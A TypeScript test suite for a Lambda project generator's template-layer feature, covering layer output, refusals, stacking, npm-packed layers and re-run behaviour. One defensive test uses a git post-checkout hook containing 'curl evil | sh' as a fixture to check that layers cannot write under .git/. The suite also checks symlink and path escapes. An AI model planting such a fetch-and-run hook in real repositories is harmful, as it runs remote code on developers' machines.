/**
 * Template layers (--templates), through the package's bin as a platform team's
 * users run it: the worked example in examples/team-layer changes exactly what
 * it claims; a layer that cannot be used is refused in one line with nothing
 * written; layers stack in order; re-runs and bump keep a layer's output and
 * the owners' edits; a layer packed as an npm tarball works as its folder does;
 * and the output still passes the generated-repo checks.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, rmSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { composeSchemaErrors, fromLines, run } from './support/checks.ts';
import { listFiles, repoRoot } from './support/generate.ts';
import { scratchDir } from './support/scratch.ts';

const example = path.join(repoRoot, 'examples/team-layer');
const bin = path.join(repoRoot, 'bin/generator-lambda-local.ts');

function runBin(cwd: string, args: readonly string[]) {
  return spawnSync(process.execPath, [bin, ...args], { cwd, encoding: 'utf8' });
}

/** Generates `demo` in a new folder; the run must succeed. */
function generated(args: readonly string[], work = scratchDir('layers')): string {
  const result = runBin(work, ['demo', '--yes', '--offline', '--arch', 'x86_64', ...args]);
  assert.equal(result.status, 0, result.stderr);
  return path.join(work, 'demo');
}

const read = (dir: string, file: string) => readFileSync(path.join(dir, file), 'utf8');

/** A layer of its own in a scratch folder: its manifest, and files under templates/. */
function layer(manifest: object, templates: Record<string, string> = {}, extra: Record<string, string> = {}): string {
  const dir = scratchDir('layer');
  writeFileSync(path.join(dir, 'lambda-local.templates.json'), JSON.stringify(manifest));
  for (const [file, text] of Object.entries(templates)) {
    mkdirSync(path.dirname(path.join(dir, 'templates', file)), { recursive: true });
    writeFileSync(path.join(dir, 'templates', file), text);
  }
  for (const [file, text] of Object.entries(extra)) writeFileSync(path.join(dir, file), text);
  return dir;
}

/** What the example's presets give, passed as options instead. */
const examplePresetsAsOptions = ['--memory', '256', '--timeout', '10', '--module', 'github.com/acme/demo', '--variables', 'PAYMENTS_URL=http://payments:8080'];

describe('the example template layer', () => {
  it('changes exactly what it claims: one whole file, two partials, one new file, one file left out, and defaults', () => {
    const layered = generated(['--templates', example]);
    // The same answers and the same file left out, by a layer that does nothing else.
    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^2.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
    const files = listFiles(layered);
    assert.deepEqual(files.filter((file) => !listFiles(omitting).includes(file)), ['localdev/stubs/payments.mjs'], 'one new file');
    assert.deepEqual(listFiles(omitting).filter((file) => !files.includes(file)), []);
    assert.equal(read(layered, 'localdev/stubs/payments.mjs'), read(example, 'templates/localdev/stubs/payments.mjs'));
    const differ = files.filter((file) => file !== 'localdev/stubs/payments.mjs' && read(layered, file) !== read(omitting, file));
    assert.deepEqual(differ, ['.gitignore', '.yo-rc.json', 'README.md', 'localdev/docker-compose.yml']);
    assert.equal(read(layered, '.gitignore'), read(example, 'templates/gitignore.hbs'), 'replaced whole');
    // compose-extra-services: the payments service, with the helper's name for the caller, and nothing else.
    const compose = read(layered, 'localdev/docker-compose.yml');
    const service = compose.slice(compose.indexOf("\n  # Acme's payments API"), compose.indexOf('\nnetworks:'));
    assert.equal(compose.replace(service, ''), read(omitting, 'localdev/docker-compose.yml'));
    assert.match(service, /\n {4}image: node:24-alpine@sha256:[0-9a-f]{64}\n/);
    assert.match(service, /\n {6}CALLER: acme-demo\n/);
    // readme-deploy: how Acme deploys, where the README would speak of SAM, and nothing else.
    const readme = read(layered, 'README.md');
    const deploy = readme.slice(readme.indexOf('## Deploy to AWS\n'), readme.indexOf('## Change the code'));
    assert.match(deploy, /^## Deploy to AWS\n\nAcme deploys every function with its Terraform module[\s\S]*\n\| `demo` \| 256 MB \| 10 s \| `acme-demo` \|\n\n$/);
    assert.equal(readme.replace(deploy, ''), read(omitting, 'README.md'));
    // The defaults are the presets', and the answers say which layer.
    const stored = JSON.parse(read(layered, '.yo-rc.json'))['generator-lambda-local'] as { functions: Record<string, unknown>[] } & Record<string, unknown>;
    const [fn] = stored.functions;
    assert.deepEqual(
      { memory: fn?.memory, timeout: fn?.timeout, module: stored.module, variables: fn?.variables, templates: stored.templates },
      { memory: 256, timeout: 10, module: 'github.com/acme/demo', variables: 'PAYMENTS_URL=http://payments:8080', templates: example },
    );
  });

  it('leaves template.yaml out truly: no file then speaks of it, of SAM or of make deploy', () => {
    const plain = generated(examplePresetsAsOptions);
    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^2.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
    assert.deepEqual(listFiles(plain).filter((file) => !listFiles(omitting).includes(file)), ['template.yaml']);
    for (const file of listFiles(omitting)) assert.doesNotMatch(read(omitting, file), /template\.yaml|\bsam (build|deploy)\b|make deploy|build-DemoFunction/, file);
    assert.doesNotMatch(run('make', ['help'], omitting).stdout, /make deploy|build-DemoFunction/);
    assert.match(run('make', ['help'], plain).stdout, /make deploy/, 'where template.yaml is written, make deploy is there');
    assert.match(read(plain, 'Makefile'), /^build-DemoFunction:/m, "and the function's build target sam build runs");
  });

  it('lets options given and answers stored win over its presets', () => {
    const layered = generated(['--templates', example, '--memory', '1024']);
    assert.match(read(layered, 'localdev/docker-compose.yml'), /\n {4}mem_limit: 1024m\n/);
    assert.match(read(layered, 'localdev/docker-compose.yml'), /AWS_LAMBDA_FUNCTION_TIMEOUT: "10"/, 'the preset where nothing was given');
    // A repo generated without the layer keeps its stored answers when the layer comes later.
    const plain = generated([]);
    const rerun = runBin(plain, ['--yes', '--offline', '--templates', example]);
    assert.equal(rerun.status, 0, rerun.stderr);
    assert.match(read(plain, 'localdev/docker-compose.yml'), /\n {4}mem_limit: 128m\n/);
    assert.match(read(plain, 'localdev/docker-compose.yml'), /\n {2}payments:\n/, "the layer's output arrives");
  });

  it('gives a repo that passes the generated-repo checks: Compose schema, shellcheck, Dockerfile, make -n', () => {
    const repo = generated(['--templates', example]);
    const compose = parseYaml(read(repo, 'localdev/docker-compose.yml')) as { services: Record<string, unknown> };
    assert.deepEqual(composeSchemaErrors(compose), []);
    assert.deepEqual(Object.keys(compose.services), ['demo', 'api', 'payments']);
    for (const script of ['localdev/entrypoint.sh', 'localdev/reload.sh']) {
      const checked = run('shellcheck', ['--shell=sh', script], repo);
      assert.equal(checked.status, 0, checked.stdout + checked.stderr);
    }
    for (const from of fromLines(read(repo, 'localdev/Dockerfile'))) if (!from.image.startsWith('rie')) assert.match(from.image, /@sha256:[0-9a-f]{64}$/);
    for (const target of ['build', 'up', 'down', 'invoke', 'zip', 'bump', 'help']) {
      const dry = run('make', ['-n', target], repo);
      assert.equal(dry.status, 0, `make -n ${target}: ${dry.stderr}`);
    }
  });

  it('speaks of each function once the repo has two: the deploy table, the presets, compose', () => {
    const repo = generated(['--templates', example]);
    const added = runBin(repo, ['function', 'worker', '--trigger', 'sqs', '--yes']);
    assert.equal(added.status, 0, added.stderr);
    // README.md is the owners': the function command leaves it, naming the layer's section that now says more.
    assert.match(added.stdout + added.stderr, /README\.md is yours and was left as it is; .*"Deploy to AWS"/);
    rmSync(path.join(repo, 'README.md'));
    const rerun = runBin(repo, ['--yes', '--offline']);
    assert.equal(rerun.status, 0, rerun.stderr);
    const readme = read(repo, 'README.md');
    const deploy = readme.slice(readme.indexOf('## Deploy to AWS\n'), readme.indexOf('## Change the code'));
    // The layer's presets are the new function's defaults too.
    assert.match(deploy, /\n\| `demo` \| 256 MB \| 10 s \| `acme-demo` \|\n\| `worker` \| 256 MB \| 10 s \| `acme-worker` \|\n\n$/);
    const compose = parseYaml(read(repo, 'localdev/docker-compose.yml')) as { services: Record<string, unknown> };
    assert.deepEqual(composeSchemaErrors(compose), []);
    assert.deepEqual(Object.keys(compose.services), ['demo', 'worker', 'api', 'payments']);
    assert.equal(listFiles(repo).includes('template.yaml'), false, 'still left out');
  });

  it('works the same installed from a packed npm tarball, found by name from the project up, then globally', () => {
    const work = scratchDir('layers-npm');
    const packed = spawnSync('npm', ['pack', example, '--pack-destination', work, '--json'], { cwd: work, encoding: 'utf8' });
    assert.equal(packed.status, 0, packed.stderr);
    const [{ filename }] = JSON.parse(packed.stdout) as [{ filename: string }];
    // Installed beside the project, as a team's monorepo would: Node's resolution finds it from the project folder up.
    const installed = spawnSync('npm', ['install', '--prefix', work, '--no-audit', '--no-fund', path.join(work, filename)], { cwd: work, encoding: 'utf8' });
    assert.equal(installed.status, 0, installed.stderr);
    const fromPackage = generated(['--templates', 'acme-lambda-local-layer'], work);
    const fromFolder = generated(['--templates', example]);
    for (const file of listFiles(fromFolder).filter((name) => name !== '.yo-rc.json')) assert.equal(read(fromPackage, file), read(fromFolder, file), file);
    assert.equal(JSON.parse(read(fromPackage, '.yo-rc.json'))['generator-lambda-local'].templates, 'acme-lambda-local-layer');

    // Installed globally (npm i -g, under npm's prefix) and found there when the project has none.
    const prefix = scratchDir('layers-global');
    const global = spawnSync('npm', ['install', '--global', '--prefix', prefix, '--no-audit', '--no-fund', path.join(work, filename)], { cwd: work, encoding: 'utf8' });
    assert.equal(global.status, 0, global.stderr);
    const elsewhere = scratchDir('layers-elsewhere');
    const result = spawnSync(process.execPath, [bin, 'demo', '--yes', '--offline', '--arch', 'x86_64', '--templates', 'acme-lambda-local-layer'], {
      cwd: elsewhere,
      encoding: 'utf8',
      env: { ...process.env, npm_config_prefix: prefix },
    });
    assert.equal(result.status, 0, result.stderr);
    assert.equal(read(path.join(elsewhere, 'demo'), 'localdev/docker-compose.yml'), read(fromFolder, 'localdev/docker-compose.yml'));
  });
});

describe('layers refused, nothing written', () => {
  const refused = (args: readonly string[], expected: RegExp) => {
    const work = scratchDir('layers-refused');
    const result = runBin(work, ['demo', '--yes', '--offline', ...args]);
    assert.equal(result.status, 1, result.stdout + result.stderr);
    assert.equal(result.stderr.split('\n').filter(Boolean).length, 1, result.stderr);
    assert.match(result.stderr.trimEnd(), expected);
    assert.deepEqual(listFiles(work), [], 'nothing written');
  };

  it('a layer written for another template context version, naming both', () => {
    // A layer written for 1.x names per-function fields at the top (memory, timeout…) that 2.0.0 moved into functions.
    const old = layer({ name: 'old', context: '^1.2.0' });
    refused(['--templates', old], /^generator-lambda-local: template layer old \(.*\) is written for template context \^1\.2\.0, and this generator's is 2\.0\.0; nothing was written$/);
    const future = layer({ name: 'future', context: '^3.0.0' });
    refused(['--templates', future], /^generator-lambda-local: template layer future \(.*\) is written for template context \^3\.0\.0, and this generator's is 2\.0\.0; nothing was written$/);
  });

  it('a template that uses a partial no one has, naming the file and the partial', () => {
    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
    refused(['--templates', dir], /^generator-lambda-local: template .*\/templates\/Makefile\.hbs: .*house-targets/);
  });

  it('a template that calls a helper no one registered, naming it', () => {
    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'partials/compose-extra-services.hbs': '  x: {{shout name}}\n' });
    refused(['--templates', dir], /^generator-lambda-local: template .*docker-compose\.yml\.hbs: .*shout/);
  });

  it('a helpers module that throws when it loads', () => {
    const dir = layer({ name: 'throws', context: '^2.0.0', helpers: 'helpers.js' }, {}, { 'helpers.js': "throw new Error('no vault token');\n" });
    refused(['--templates', dir], /^generator-lambda-local: template layer throws: its helpers module .*helpers\.js fails to load \(no vault token\); nothing was written$/);
  });

  it('a file under templates/triggers/ that is none of a kind\'s files: a misspelt folder, or a sample the kind does not have', () => {
    for (const file of ['triggers/http/payload-2/main.go', 'triggers/sqs/events/sqs-fifo.json']) {
      const dir = layer({ name: 'stray', context: '^2.0.0' }, { [file]: 'x\n' });
      refused(
        ['--templates', dir],
        new RegExp(`^generator-lambda-local: template layer stray: file "templates/${file.replaceAll('.', '\\.')}" is not allowed: it replaces none of a trigger kind's files; expected a file of lib/triggers/<kind>/ in this package .*; nothing was written$`),
      );
    }
  });

  it('a package name nothing has installed, and how to install it', () => {
    refused(
      ['--templates', '@acme/no-such-layer'],
      /^generator-lambda-local: --templates: "@acme\/no-such-layer" is not allowed; expected an installed npm package with lambda-local\.templates\.json.*npm i -D @acme\/no-such-layer in the project, or npm i -g @acme\/no-such-layer\)$/,
    );
  });

  it('a preset that is not an allowed answer, naming the layer file', () => {
    const dir = layer({ name: 'big', context: '^2.0.0', presets: { memory: 64 } });
    refused(['--templates', dir], /lambda-local\.templates\.json: preset "memory" 64 is not allowed; expected an integer from 128 to 10240; nothing was written$/);
  });

  it('on a re-run too, leaving every file as it was', () => {
    const repo = generated([]);
    const before = Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)]));
    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
    const result = runBin(repo, ['--yes', '--offline', '--templates', dir]);
    assert.equal(result.status, 1);
    assert.match(result.stderr, /house-targets/);
    assert.deepEqual(Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)])), before);
  });
});

describe('layers stay in their folder, nothing written', () => {
  const refused = (dir: string, expected: RegExp) => {
    const work = scratchDir('layers-refused');
    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', dir]);
    assert.equal(result.status, 1, result.stdout + result.stderr);
    assert.equal(result.stderr.split('\n').filter(Boolean).length, 1, result.stderr);
    assert.match(result.stderr.trimEnd(), expected);
    assert.deepEqual(listFiles(work), [], 'nothing written');
  };
  /** A file outside any layer, which a layer must not be able to copy or run. */
  const outside = (name: string, text: string) => {
    const file = path.join(scratchDir('outside'), name);
    writeFileSync(file, text);
    return file;
  };

  it('a layer that would write .yo-rc.json, as a file or a template', () => {
    for (const file of ['.yo-rc.json', '.yo-rc.json.hbs', '.YO-RC.JSON']) {
      const dir = layer({ name: 'config', context: '^2.0.0' }, { [file]: '{}\n' });
      refused(dir, new RegExp(`^generator-lambda-local: template layer config: file "templates/${file.replaceAll('.', '\\.')}" is not allowed; expected files that write neither \\.yo-rc\\.json \\(the answers, pins and hashes\\) nor anything under \\.git/; nothing was written$`));
    }
  });

  it('a layer that would write under .git/', () => {
    const dir = layer({ name: 'hooks', context: '^2.0.0' }, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n' });
    refused(dir, /^generator-lambda-local: template layer hooks: file "templates\/\.git\/hooks\/post-checkout" is not allowed; expected files that write neither/);
  });

  it('a layer file that is a link out of the layer, to a file or a folder', () => {
    const file = layer({ name: 'linked', context: '^2.0.0' });
    mkdirSync(path.join(file, 'templates'));
    const target = outside('hostname', 'secret host\n');
    symlinkSync(target, path.join(file, 'templates', 'hostname'));
    refused(file, new RegExp(`^generator-lambda-local: template layer linked: file "templates/hostname" is not allowed \\(it resolves to ${target.replaceAll('.', '\\.')}, outside the layer's folder\\); expected files inside the layer's folder; nothing was written$`));

    const folder = layer({ name: 'linked', context: '^2.0.0' });
    mkdirSync(path.join(folder, 'templates'));
    symlinkSync(path.dirname(target), path.join(folder, 'templates', 'localdev'));
    refused(folder, /^generator-lambda-local: template layer linked: file "templates\/localdev" is not allowed \(it resolves to .*, outside the layer's folder\); expected files inside the layer's folder; nothing was written$/);
  });

  it('a helpers module outside the layer, by .. or by a link, and nothing of it runs', () => {
    const marker = path.join(scratchDir('helpers-ran'), 'ran');
    const code = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'ran');\nexport const shout = (text) => String(text).toUpperCase();\n`;
    const module = outside('x.mjs', code);
    const dotted = layer({ name: 'far', context: '^2.0.0', helpers: path.relative(scratchDir('unused'), module) });
    const byDots = layer({ name: 'far', context: '^2.0.0', helpers: `../${path.relative(path.dirname(dotted), module)}` });
    refused(byDots, /^generator-lambda-local: .*lambda-local\.templates\.json: "helpers" ".*x\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\); expected the path of a JavaScript module in the layer; nothing was written$/);
    const linked = layer({ name: 'far', context: '^2.0.0', helpers: 'helpers.mjs' });
    symlinkSync(module, path.join(linked, 'helpers.mjs'));
    refused(linked, /"helpers" "helpers\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\)/);
    assert.equal(listFiles(path.dirname(marker)).length, 0, 'the module outside never ran');
  });

  it("a link that stays in the layer is the layer's own file", () => {
    const dir = layer({ name: 'inside', context: '^2.0.0' }, { 'localdev/notes.txt': 'ours\n' });
    symlinkSync(path.join(dir, 'templates/localdev/notes.txt'), path.join(dir, 'templates/localdev/same.txt'));
    const repo = generated(['--templates', dir]);
    assert.equal(read(repo, 'localdev/same.txt'), 'ours\n');
  });
});

describe('a run with layers', () => {
  it('names them in its output, and a run without says nothing of layers', () => {
    const work = scratchDir('layers-named');
    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', example]);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stdout + result.stderr, new RegExp(`template layers \\(bottom first\\): acme \\(${example.replaceAll('.', '\\.')}\\)\n`));
    const plain = runBin(scratchDir('layers-named'), ['demo', '--yes', '--offline']);
    assert.doesNotMatch(plain.stdout + plain.stderr, /template layer/);
    const rerun = runBin(path.join(work, 'demo'), ['--yes', '--offline', '--memory', '512']);
    assert.equal(rerun.status, 0, rerun.stderr);
    assert.match(rerun.stdout + rerun.stderr, /template layers \(bottom first\): acme \(/, 'a re-run, through Yeoman');
    const bump = runBin(path.join(work, 'demo'), ['bump', '--offline']);
    assert.equal(bump.status, 0, bump.stderr);
    assert.match(bump.stdout + bump.stderr, /template layers \(bottom first\): acme \(/);
  });
});

describe('layers stacked', () => {
  it('apply bottom to top: the later layer wins a partial, a file and a preset, and the earlier keeps the rest', () => {
    const bottom = layer(
      { name: 'platform', context: '^2.0.0', presets: { memory: 256, timeout: 20 } },
      {
        'partials/compose-extra-services.hbs': '  # from platform\n',
        // A partial of its own, for a file of its own.
        'partials/platform-note.hbs': 'platform {{name}}\n',
        'localdev/platform.txt.hbs': '{{> platform-note}}',
        'localdev/shared.txt': 'platform\n',
      },
    );
    const top = layer(
      { name: 'team', context: '^2.0.0', presets: { memory: 512 } },
      { 'partials/compose-extra-services.hbs': '  # from team\n', 'localdev/shared.txt': 'team\n' },
    );
    const repo = generated(['--templates', bottom, '--templates', top]);
    const compose = read(repo, 'localdev/docker-compose.yml');
    assert.match(compose, /\n {2}# from team\n/);
    assert.doesNotMatch(compose, /from platform/);
    assert.equal(read(repo, 'localdev/shared.txt'), 'team\n');
    assert.equal(read(repo, 'localdev/platform.txt'), 'platform demo\n');
    assert.match(compose, /mem_limit: 512m/);
    assert.match(compose, /AWS_LAMBDA_FUNCTION_TIMEOUT: "20"/);
    assert.equal(JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'].templates, `${bottom},${top}`);
  });
});

describe("a layer replacing a trigger kind's handler and sample, at templates/triggers/<kind>/", () => {
  it("replaces the http function's main.go, main_test.go and sample event, and writes no file of those paths", () => {
    const handler = "// Acme's handler.\npackage main\n";
    const test = "// Acme's handler test.\npackage main\n";
    const sample = '{"acme":true}\n';
    const acme = layer(
      { name: 'acme', context: '^2.0.0' },
      { 'triggers/http/payload-1.0/main.go': handler, 'triggers/http/payload-1.0/main_test.go': test, 'triggers/http/events/api-gateway-v1.json': sample },
    );
    const repo = generated(['--templates', acme, '--payload', '1.0']);
    assert.equal(read(repo, 'cmd/demo/main.go'), handler);
    assert.equal(read(repo, 'cmd/demo/main_test.go'), test);
    assert.equal(read(repo, 'events/api-gateway-v1.json'), sample);
    assert.deepEqual(listFiles(repo).filter((file) => file.startsWith('triggers/')), [], 'no copy at the layer path');
  });
});

describe("a layer written for 0.2's paths of the http handler and samples (templates/go/payload-*/, templates/events/)", () => {
  it('replaces the same files, and writes nothing at the old paths', () => {
    const handler = "// Acme's REST handler.\npackage main\n";
    const sample = '{"acme":"v2"}\n';
    const acme = layer(
      { name: 'acme', context: '^2.0.0' },
      { 'go/payload-2.0/main.go': handler, 'events/http-api-v2.json': sample, 'events/api-gateway-v1.json': '{"acme":"v1"}\n' },
    );
    const repo = generated(['--templates', acme, '--payload', '2.0']);
    assert.equal(read(repo, 'cmd/demo/main.go'), handler);
    assert.equal(read(repo, 'events/http-api-v2.json'), sample);
    const files = listFiles(repo);
    assert.deepEqual(files.filter((file) => file.startsWith('go/') || file === 'events/api-gateway-v1.json'), [], 'no copy at the old path, and no sample of the other API type');
    assert.ok(!Object.keys(JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'].files).includes('events/http-api-v2.json'), 'the sample stays the owners\'');
  });
});

describe('a stored layer path that no longer exists', () => {
  /** A repo generated with a copy of the example beside it, named relatively; then the copy moves. */
  function movedLayer() {
    const work = scratchDir('layers-moved');
    cpSync(example, path.join(work, 'acme-layer'), { recursive: true });
    const repo = generated(['--templates', './acme-layer'], work);
    renameSync(path.join(work, 'acme-layer'), path.join(work, 'platform-layer'));
    const snapshot = () => Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)]));
    return { work, repo, snapshot };
  }
  const stored = (repo: string) => JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'] as Record<string, unknown>;

  it('names .yo-rc.json and how to re-point it, in one line, from a re-run, bump and diff, writing nothing', () => {
    const { work, repo, snapshot } = movedLayer();
    const before = snapshot();
    for (const args of [['--yes', '--offline'], ['bump', '--offline'], ['bump', '--check', '--offline'], ['diff', '--offline']]) {
      const result = runBin(repo, args);
      assert.equal(result.status, 1, `${args.join(' ')}: ${result.stdout}${result.stderr}`);
      assert.equal(
        result.stderr,
        `generator-lambda-local: .yo-rc.json "templates": "../acme-layer" is not allowed; expected a template layer, a folder with lambda-local.templates.json ` +
          `(${path.join(work, 'acme-layer')} has none): if the layer moved, re-point it with --templates <new path> (a re-run or bump takes it)\n`,
        args.join(' '),
      );
      assert.deepEqual(snapshot(), before, 'nothing written');
    }
  });

  it('is re-pointed by bump --templates, which changes nothing else, and the repo runs on', () => {
    const { repo, snapshot } = movedLayer();
    const before = snapshot();
    const bump = runBin(repo, ['bump', '--offline', '--templates', '../platform-layer']);
    assert.equal(bump.status, 0, bump.stderr);
    assert.equal(stored(repo).templates, '../platform-layer');
    const after = snapshot();
    assert.deepEqual(Object.keys(after), Object.keys(before));
    for (const file of Object.keys(before).filter((name) => name !== '.yo-rc.json')) assert.equal(after[file], before[file], file);
    const { templates: _old, ...rest } = stored(repo);
    const { templates: _new, ...restBefore } = JSON.parse(before['.yo-rc.json'] ?? '{}')['generator-lambda-local'] as Record<string, unknown>;
    assert.deepEqual(rest, restBefore, 'only the layer path moved in .yo-rc.json');
    const rerun = runBin(repo, ['--yes', '--offline']);
    assert.equal(rerun.status, 0, rerun.stderr);
    const check = runBin(repo, ['bump', '--check', '--offline']);
    assert.equal(check.status, 0, check.stdout + check.stderr);
  });

  it('is re-pointed by a re-run given --templates, from a subfolder too', () => {
    const { repo } = movedLayer();
    const rerun = runBin(path.join(repo, 'localdev'), ['--yes', '--offline', '--templates', '../../platform-layer']);
    assert.equal(rerun.status, 0, rerun.stderr);
    assert.equal(stored(repo).templates, '../platform-layer');
    assert.match(read(repo, 'localdev/docker-compose.yml'), /\n {2}payments:\n/);
  });

  it('bump refuses --templates that name layers writing other files: it re-points, and a re-run changes layers', () => {
    const { repo, snapshot } = movedLayer();
    // Another layer: without the payments stub that the repo's layer writes.
    const other = layer({ name: 'other', context: '^2.0.0' });
    const before = snapshot();
    const bump = runBin(repo, ['bump', '--offline', '--templates', other]);
    assert.equal(bump.status, 1, bump.stderr);
    const escaped = other.replaceAll('.', '\\.');
    assert.match(
      bump.stderr,
      new RegExp(
        `^generator-lambda-local: --templates: "${escaped}" is not allowed \\(its files differ from what \\.yo-rc\\.json records: [^)]*localdev/stubs/payments\\.mjs[^)]*\\); ` +
          `expected the layers the repo was generated with, moved: bump only re-points them \\(to change layers, run npx generator-lambda-local --templates ${escaped}\\)\\n$`,
      ),
    );
    assert.deepEqual(snapshot(), before, 'nothing written');
  });
});

describe('the lifecycle of a repo generated with a layer', () => {
  it("re-runs and bump keep the layer's output and the owners' edits", () => {
    const work = scratchDir('layers-lifecycle');
    // A layer kept in the team's repo next to the project, named relative to it.
    cpSync(example, path.join(work, 'acme-layer'), { recursive: true });
    const repo = generated(['--templates', './acme-layer'], work);
    assert.equal(JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'].templates, '../acme-layer', 'kept relative to the project');
    const compose = path.join(repo, 'localdev/docker-compose.yml');
    writeFileSync(compose, read(repo, 'localdev/docker-compose.yml').replace('    restart: unless-stopped\n\n  api:', '    restart: unless-stopped\n    # ours: keep this\n\n  api:'));
    writeFileSync(path.join(repo, 'localdev/stubs/payments.mjs'), `${read(repo, 'localdev/stubs/payments.mjs')}// ours too\n`);

    // From a subfolder, with a new answer: the layer comes from .yo-rc.json.
    const rerun = runBin(path.join(repo, 'localdev'), ['--yes', '--offline', '--memory', '512']);
    assert.equal(rerun.status, 0, rerun.stderr);
    const after = read(repo, 'localdev/docker-compose.yml');
    assert.match(after, /mem_limit: 512m/, "the generator's change");
    assert.match(after, /# ours: keep this/, "the owners' edit");
    assert.match(after, /\n {2}payments:\n[\s\S]*CALLER: acme-demo/, "the layer's partial");
    assert.match(read(repo, 'localdev/stubs/payments.mjs'), /\/\/ ours too\n$/);
    assert.equal(listFiles(repo).includes('template.yaml'), false, 'still left out');

    // bump re-pins in place, leaving the layer's output and the edits.
    const bump = runBin(repo, ['bump', '--offline']);
    assert.equal(bump.status, 0, bump.stderr);
    assert.equal(read(repo, 'localdev/docker-compose.yml'), after);
  });

  it("a layer added to a repo its owners edited brings its output and keeps their edits", () => {
    const repo = generated([]);
    const compose = path.join(repo, 'localdev/docker-compose.yml');
    writeFileSync(compose, read(repo, 'localdev/docker-compose.yml').replace('    restart: unless-stopped\n\n  api:', '    restart: unless-stopped\n    # ours: keep this\n\n  api:'));
    const rerun = runBin(repo, ['--yes', '--offline', '--templates', example]);
    assert.equal(rerun.status, 0, rerun.stderr);
    const after = read(repo, 'localdev/docker-compose.yml');
    assert.match(after, /# ours: keep this/, "the owners' edit");
    // What the generator wrote last time had no layer: the layer's service is its change, and arrives.
    assert.match(after, /\n {2}payments:\n[\s\S]*CALLER: acme-demo\n/, "the layer's service");
    assert.doesNotMatch(after, /<<<<<<<|>>>>>>>/);
  });

  it("bump --check counts the layer's files as the generator's own: a repo as generated is current, and a layer that moved is an update", () => {
    const team = scratchDir('team-layer');
    cpSync(example, team, { recursive: true });
    const repo = generated(['--templates', team]);
    const check = runBin(repo, ['bump', '--check', '--offline']);
    assert.equal(check.status, 0, check.stdout + check.stderr);
    assert.match(check.stderr + check.stdout, /no update: every pin is current, and generator-lambda-local \S+ writes what this repo's last run wrote/);
    // The team changes its stub: the layer's output moved.
    const stub = path.join(team, 'templates/localdev/stubs/payments.mjs');
    writeFileSync(stub, `${readFileSync(stub, 'utf8')}// v2\n`);
    const moved = runBin(repo, ['bump', '--check', '--offline']);
    assert.equal(moved.status, 1, moved.stdout + moved.stderr);
    assert.match(moved.stdout, /^file localdev\/stubs\/payments\.mjs +generator-lambda-local \S+ writes it differently than \S+ did$/m);
  });

  it("bump moves pins and leaves a layer's move to the re-run: --check still reports it, and the re-run brings it", () => {
    const team = scratchDir('team-layer');
    cpSync(example, team, { recursive: true });
    const repo = generated(['--templates', team]);
    // A repo pinned before node:24-alpine last moved, so that bump has a pin to move.
    const config = JSON.parse(read(repo, '.yo-rc.json'));
    const stale = `sha256:${'1'.repeat(64)}`;
    const pin = config['generator-lambda-local'].pins.images['node:24-alpine'];
    pin.digest = stale;
    writeFileSync(path.join(repo, '.yo-rc.json'), JSON.stringify(config, null, 2));
    // The re-run writes compose anew with that pin, and records its hash as such a repo's is.
    rmSync(path.join(repo, 'localdev/docker-compose.yml'));
    assert.equal(runBin(repo, ['--yes', '--offline']).status, 0);
    assert.match(read(repo, 'localdev/docker-compose.yml'), new RegExp(stale));
    // The team changes its stub: the layer's output moved, which only a re-run merges in.
    const stub = path.join(team, 'templates/localdev/stubs/payments.mjs');
    writeFileSync(stub, `${readFileSync(stub, 'utf8')}// v2\n`);

    const bump = runBin(repo, ['bump', '--offline']);
    assert.equal(bump.status, 0, bump.stdout + bump.stderr);
    assert.doesNotMatch(read(repo, 'localdev/docker-compose.yml'), new RegExp(stale), 'bump moved the pin');
    assert.doesNotMatch(read(repo, 'localdev/stubs/payments.mjs'), /\/\/ v2/, 'bump writes pins only');
    const check = runBin(repo, ['bump', '--check', '--offline']);
    assert.equal(check.status, 1, check.stdout + check.stderr);
    assert.equal(check.stdout.trimEnd().split('\n').length, 1, check.stdout);
    assert.match(check.stdout, /^file localdev\/stubs\/payments\.mjs +generator-lambda-local \S+ writes it differently than \S+ did$/m);

    const rerun = runBin(repo, ['--yes', '--offline']);
    assert.equal(rerun.status, 0, rerun.stdout + rerun.stderr);
    assert.match(read(repo, 'localdev/stubs/payments.mjs'), /\/\/ v2\n$/, "the layer's change arrives");
    assert.equal(runBin(repo, ['bump', '--check', '--offline']).status, 0);
  });
});
